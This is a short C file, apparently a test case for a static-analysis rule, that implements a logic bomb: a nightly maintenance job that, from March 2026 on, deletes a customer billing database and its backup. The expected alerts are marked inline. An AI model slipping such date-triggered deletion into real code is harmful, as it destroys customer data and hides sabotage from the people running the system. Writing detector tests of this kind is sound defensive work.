/*
 * behavior.logic-bomb: a time bomb written the way a disgruntled maintainer
 * would hide it in a nightly maintenance job. The calendar date is read with
 * time() + localtime() and compared field by field (tm_year / tm_mon); from
 * March 2026 on, the "maintenance" deletes the customer database and its
 * backup instead of vacuuming it.
 */
#include <stdio.h>
#include <time.h>
#include <unistd.h>

#define DB_PATH "/var/lib/billing/customers.db"
#define DB_BACKUP "/var/backups/billing/customers.db.1"

static void vacuum_database(const char *path)
{
    printf("vacuuming %s\n", path);
}

int main(void)
{
    time_t now = time(NULL);
    struct tm *tm = localtime(&now);

    if (!tm)
        return 1;
    vacuum_database(DB_PATH);
    if (tm->tm_year + 1900 >= 2026 && tm->tm_mon >= 2) {
        unlink(DB_BACKUP); // $ Alert[behavior.logic-bomb]
        unlink(DB_PATH); // $ Alert[behavior.logic-bomb]
    }
    return 0;
}
